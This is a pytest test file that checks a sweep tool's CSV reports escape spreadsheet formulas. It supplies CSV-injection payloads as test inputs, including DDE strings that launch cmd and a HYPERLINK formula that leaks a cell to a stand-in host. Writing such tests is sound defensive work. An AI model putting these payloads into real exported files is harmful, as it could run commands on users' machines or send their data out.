"""Report CSVs opened in a spreadsheet: text that would run as a formula is written as text,
numbers stay numbers (OWASP's CSV-injection advice)."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import optuna
import pandas as pd
import pytest

from freezesweep.study.attributes import FAIL_REASON_ATTR
from freezesweep.study.csv_cells import plain_cell, safe_cell, spreadsheet_safe
from freezesweep.study.report import write_report


@pytest.mark.parametrize(
    "formula",
    [
        "=1+2",
        '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        "-",
        "+",
        "-1e5x",
    ],
)
def test_text_that_starts_a_formula_gets_a_leading_quote(formula: str) -> None:
    assert safe_cell(formula) == "'" + formula


@pytest.mark.parametrize("text", ["'quoted", "''", "'=1+2", "'-0.5"])
def test_text_that_starts_with_the_quote_gets_another(text: str) -> None:
    # The quote is an escape, so a cell that had one is told apart from an escaped formula.
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["=1+2", "@SUM(A1:A9)", "\t=1", "-", "'quoted", "''", "-0.5", "+3", "unfreeze", ""]
)
def test_plain_cell_reads_back_what_safe_cell_wrote(text: str) -> None:
    assert plain_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "value",
    ["-0.5", "+3", "-1e-05", "-.5", "1E+10", -0.5, -3, 0.0, "a=b", "", "unfreeze", None],
)
def test_numbers_and_plain_text_are_kept(value: Any) -> None:
    assert safe_cell(value) == value


def _study(choice: str, reason: str) -> optuna.Study:
    study = optuna.create_study(direction="maximize")
    distributions = {
        "data.kind": optuna.distributions.CategoricalDistribution([choice, "digits"]),
        "finetune.lr_decay": optuna.distributions.FloatDistribution(-1.0, 1.0),
    }
    study.add_trial(
        optuna.trial.create_trial(
            params={"data.kind": choice, "finetune.lr_decay": -0.5},
            distributions=distributions,
            value=0.8,
            user_attrs={"trainable_params": 325},
        )
    )
    study.add_trial(
        optuna.trial.create_trial(
            state=optuna.trial.TrialState.FAIL, user_attrs={FAIL_REASON_ATTR: reason}
        )
    )
    return study


@pytest.mark.parametrize(
    ("choice", "reason"),
    [("=cmd|' /C calc'!A0", "@SUM(1+1)"), ("+1+1", "-2+3"), ("\t=1", "=2")],
)
def test_report_csvs_hold_no_formula_and_keep_negative_numbers(
    tmp_path: Path, choice: str, reason: str
) -> None:
    files = write_report(_study(choice, reason), tmp_path)
    for name in ("trials.csv", "pareto.csv"):
        with files[name].open(newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        # No cell a spreadsheet would evaluate; the negative number is written as a number.
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
        assert [cell for cell in cells if cell.startswith("-")] == ["-0.5"]
        assert "'" + choice in cells
    table = pd.read_csv(files["trials.csv"])
    assert table["finetune.lr_decay"].dtype == "float64"
    assert table.loc[1, FAIL_REASON_ATTR] == "'" + reason


def test_the_table_written_is_a_copy() -> None:
    table = pd.DataFrame({"a": ["=1"]})
    assert spreadsheet_safe(table)["a"].tolist() == ["'=1"]
    assert table["a"].tolist() == ["=1"]
